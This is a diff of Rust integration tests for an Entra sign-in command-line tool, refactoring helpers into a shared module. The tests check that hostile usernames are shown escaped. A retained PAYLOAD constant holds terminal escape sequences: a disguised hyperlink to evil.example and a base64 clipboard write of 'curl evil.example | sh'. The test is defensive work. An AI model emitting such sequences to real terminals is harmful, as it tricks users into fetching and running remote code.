@@ -6,11 +6,11 @@
 // Test helpers stop loudly, like the tests themselves.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
-use std::path::Path;
-use std::process::Stdio;
-use std::time::Duration;
-
 use entra_testing::{Endpoint, Fault, FaultTimes, MockEntra, TestUser};
+
+mod common;
+
+use common::{Run, entra, entra_approving, signing_mock};
 
 const SCOPE: &str = "https://graph.microsoft.com/.default";
 
@@ -19,26 +19,12 @@ const SCOPE: &str = "https://graph.microsoft.com/.default";
 const PAYLOAD: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\https://microsoft.com/devicelogin\u{1b}]8;;\u{1b}\\ \
      \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}";
 
-/// One finished run of the command.
-struct Run {
-    code: Option<i32>,
-    stdout: String,
-    stderr: String,
+/// Nothing a terminal would act on is in the output, and the payload is shown escaped.
+trait ShownEscaped {
+    fn assert_shown_escaped(&self);
 }
 
-impl Run {
-    /// Nothing a terminal would act on is in the output.
-    fn assert_nothing_raw(&self) {
-        for (name, text) in [("stdout", &self.stdout), ("stderr", &self.stderr)] {
-            let raw: Vec<char> = text
-                .chars()
-                .filter(|&c| entra_core::is_unsafe_for_terminal(c))
-                .collect();
-            assert!(raw.is_empty(), "{name} carries {raw:?}:\n{text}");
-        }
-    }
-
-    /// Nothing a terminal would act on is in the output, and the payload is shown escaped.
+impl ShownEscaped for Run {
     fn assert_shown_escaped(&self) {
         self.assert_nothing_raw();
         assert!(
@@ -46,41 +32,6 @@ impl Run {
             "the payload is shown escaped:\n{}",
             self.stderr
         );
-    }
-
-    fn error_line(&self) -> &str {
-        self.stderr
-            .lines()
-            .find(|l| l.starts_with("error ("))
-            .unwrap_or_else(|| panic!("no error line:\n{}", self.stderr))
-    }
-}
-
-/// Runs `entra` with `args`, trusting `ca` (the mock's root), its caches in `dir`; killed if it
-/// runs for more than a minute (a wait the command should have ended itself).
-async fn entra(dir: &Path, ca: Option<&Path>, args: &[&str]) -> Run {
-    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_entra"));
-    command
-        .args(args)
-        .env("ENTRA_TOKEN_CACHE_DIR", dir)
-        .env_remove("RUST_LOG")
-        .env_remove("AZURE_AUTHORITY_HOST")
-        .env_remove("SSH_CONNECTION")
-        .env_remove("SSH_TTY")
-        .stdin(Stdio::null())
-        .kill_on_drop(true);
-    match ca {
-        Some(ca) => command.env("SSL_CERT_FILE", ca),
-        None => command.env_remove("SSL_CERT_FILE"),
-    };
-    let output = tokio::time::timeout(Duration::from_secs(60), command.output())
-        .await
-        .expect("entra ended by itself within a minute")
-        .unwrap();
-    Run {
-        code: output.status.code(),
-        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
-        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
     }
 }
 
@@ -284,6 +235,7 @@ async fn a_hostile_username_in_a_record_file_is_shown_escaped() {
             path.to_str().unwrap(),
             "--no-cache",
             "--no-prompt",
+            "-v",
         ],
     )
     .await;
@@ -328,71 +280,6 @@ async fn a_record_of_another_authority_is_refused_and_left_as_it_is() {
     assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
 }
 
-/// Runs `entra` with `args` against `mock`, approving the device code as `user` as soon as
-/// the command shows it (the test reads its stderr line by line: no waiting on time).
-async fn entra_approving(
-    dir: &Path,
-    ca: &Path,
-    args: &[&str],
-    mock: &MockEntra,
-    user: &TestUser,
-) -> Run {
-    use tokio::io::{AsyncBufReadExt as _, AsyncReadExt as _};
-    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_entra"))
-        .args(args)
-        .env("ENTRA_TOKEN_CACHE_DIR", dir)
-        .env("SSL_CERT_FILE", ca)
-        .env_remove("RUST_LOG")
-        .env_remove("AZURE_AUTHORITY_HOST")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .kill_on_drop(true)
-        .spawn()
-        .unwrap();
-    let mut stdout = child.stdout.take().unwrap();
-    let mut lines = tokio::io::BufReader::new(child.stderr.take().unwrap()).lines();
-    let run = async {
-        let mut stderr = String::new();
-        while let Some(line) = lines.next_line().await.unwrap() {
-            if let Some(rest) = line.split("enter the code ").nth(1) {
-                let code = rest.split_whitespace().next().unwrap();
-                assert!(mock.approve_device_code_as(code, user), "{line}");
-            }
-            stderr.push_str(&line);
-            stderr.push('\n');
-        }
-        let mut out = String::new();
-        stdout.read_to_string(&mut out).await.unwrap();
-        let status = child.wait().await.unwrap();
-        Run {
-            code: status.code(),
-            stdout: out,
-            stderr,
-        }
-    };
-    tokio::time::timeout(Duration::from_secs(60), run)
-        .await
-        .expect("entra ended by itself within a minute")
-}
-
-/// A mock whose device codes may be polled every second, and its root certificate in a file.
-async fn signing_mock(user: TestUser) -> (MockEntra, tempfile::TempDir) {
-    let mock = MockEntra::builder()
-        .user(user)
-        .device_code_interval(Duration::from_secs(1))
-        .start()
-        .await
-        .unwrap();
-    let dir = tempfile::tempdir().unwrap();
-    std::fs::write(
-        dir.path().join("ca.pem"),
-        mock.ca_certificate_pem().unwrap(),
-    )
-    .unwrap();
-    (mock, dir)
-}
-
 /// Issue 20.3: an ID token's `preferred_username` carrying terminal escapes is stored as the
 /// account's name (kept exactly, as data) and shown escaped wherever the command prints it:
 /// after signing in, when a later run uses the cache's account, in `accounts`' JSON and in
@@ -420,7 +307,9 @@ async fn a_hostile_username_from_the_id_token_is_shown_escaped_wherever_it_is_pr
     assert_eq!(signed_in.code, Some(0), "stderr:\n{}", signed_in.stderr);
     signed_in.assert_nothing_raw();
 
-    let again = entra(dir.path(), Some(&ca), &get).await;
+    let mut verbose = get.clone();
+    verbose.push("-v");
+    let again = entra(dir.path(), Some(&ca), &verbose).await;
     assert_eq!(again.code, Some(0), "stderr:\n{}", again.stderr);
     assert!(
         again
@@ -490,12 +379,11 @@ async fn after_a_claims_run_the_next_plain_process_gets_the_new_token() {
     let plain = token(&entra(dir.path(), Some(&ca), &get).await);
     assert_eq!(plain, fresh, "the revoked token was served again");
     assert_eq!(mock.total_requests(), 0);
-    let mut sign_out = vec![
+    let sign_out = [
         "sign-out",
         "--cache-name",
         name.as_str(),
         "--allow-unencrypted-storage",
     ];
-    sign_out.retain(|a| !a.is_empty());
     assert_eq!(entra(dir.path(), None, &sign_out).await.code, Some(0));
 }
